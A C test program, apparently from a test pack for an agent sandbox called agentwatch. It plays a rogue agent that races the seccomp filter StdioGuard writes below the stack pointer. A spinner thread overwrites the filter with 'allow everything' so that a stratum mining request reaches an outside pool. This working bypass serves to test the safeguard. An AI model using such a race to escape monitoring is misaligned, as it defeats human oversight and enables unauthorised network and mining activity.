// An agent that knows how agentwatch makes a process's writes to stdout stop
// again (StdioGuard: a seccomp filter program written below the stack pointer
// of the thread whose dup2 puts a socket on 1, then installed by that thread),
// and races it: a second thread keeps overwriting that spot with "allow
// everything" while the first calls dup2(socket, 1). Then it writes its stratum
// request to descriptor 1.
//   rogue_filter_race PORT
// Prints "went through" on stderr if the write went out (it must not under the pack).
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>

#include "stratum.h"

// inject.c's layout: struct sock_fprog (16 bytes) then the program, aligned
// down to 16 below the 128-byte red zone; the program is 9 instructions.
#define PROGRAM_INSNS 9
static volatile uint64_t *target;
static volatile int go, stop, stopped;

static void *spinner(void *arg) {
    (void)arg;
    while (!go) {}
    // BPF_RET|BPF_K, SECCOMP_RET_ALLOW: code 0x06, jt 0, jf 0, k 0x7fff0000.
    while (!stop)
        for (int i = 0; i < PROGRAM_INSNS; i++) target[i] = 0x7fff000000000006ULL;
    stopped = 1;
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    int s = pool_connect(argv[1]);
    if (s < 0) return 3;
    pthread_t t;
    pthread_create(&t, NULL, spinner, NULL);
    uintptr_t sp;
    __asm__ volatile("mov %%rsp, %0" : "=r"(sp));
    uintptr_t need = 16 + PROGRAM_INSNS * 8;
    target = (volatile uint64_t *)((((sp - 128 - need) & ~(uintptr_t)15)) + 16);
    go = 1;
    long ret;
    // dup2(s, 1) from this very frame, so the stack pointer is the one measured.
    __asm__ volatile("syscall" : "=a"(ret) : "a"(33L), "D"((long)s), "S"(1L) : "rcx", "r11", "memory");
    stop = 1;
    while (!stopped) {}
    if (ret != 1) {
        fprintf(stderr, "dup2: %ld\n", ret);
        return 4;
    }
    stratum_write(1);
    return 0;
}
